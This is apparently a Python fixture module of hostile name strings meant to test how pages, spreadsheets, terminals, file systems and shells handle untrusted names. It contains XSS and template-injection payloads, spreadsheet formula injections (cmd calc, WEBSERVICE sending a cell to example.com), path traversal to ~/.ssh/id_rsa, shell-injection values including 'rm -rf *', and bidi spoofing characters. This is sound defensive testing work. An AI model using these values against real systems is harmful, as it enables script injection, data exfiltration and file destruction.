"""Names that mean harm to what shows them: pages, workbooks, terminals, files, the shell."""

MARKUP = (
    "<script>window.hit=1</script>",
    "<svg/onload=window.hit=1>",
    '"><img src=x onerror="window.hit=1">',
    "'-window.hit=1-'",
    "</title><script>window.hit=1</script>",
    "</style><style>*{display:none}</style>",
    "--><script>window.hit=1</script><!--",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<a href=javascript:window.hit=1>free days</a>",
    "<base href=//example.com/>",
    "<meta http-equiv=refresh content=0;url=//example.com>",
    "<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1&gt;'>",
    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "]]><x/><![CDATA[",
    "&lt;b&gt;&#x3c;script&#x3e;",
    "url(//example.com/x)",
)
FORMULAS = (
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@IMPORTXML("http://example.com","//a")',
    '=HYPERLINK("file:///etc/passwd","wages")',
    '=WEBSERVICE("http://example.com/"&A1)',
    "＝1+1",
    "%0A=1+1",
    "internal:'Costs'!A1",
    "ftp://example.com/roster",
)
PATHS = (
    "../../../tmp/hit",
    "..\\..\\hit",
    "/dev/null",
    "~/.ssh/id_rsa",
    "C:\\Windows\\win.ini",
    "aux.svg",
    "COM1",
    "plan/../../hit",
    "manifest.json",
    ".",
    "name. ",
    "$(touch hit)",
    "`touch hit`;rm -rf *",
    "%2e%2e%2fhit",
    "-rf",
    "trailing/",
)
SIGNS = (
    "[link=file:///etc/passwd]x[/link]",
    "[/]",
    "[blink]\\[on red]",
    "\u202egnp.exe",
    "\u2066left\u2069\u200f",
    "zero\u200bwidth\ufeff",
    "ﷺ" * 40,
    "Z\u0351\u036b\u0343\u036a\u0302alg\u0316\u0317o" * 6,
    "\U000e0041\U000e0042tags",
    "🏳️‍🌈" * 30,
    "\u061cmark\u2064",
    "ＦＵＬＬ" * 20,
    "W" * 120,
)
# What the name of a queue, team or person may be; control characters are refused when a table is
# read.
NAMES = MARKUP + FORMULAS + PATHS + SIGNS
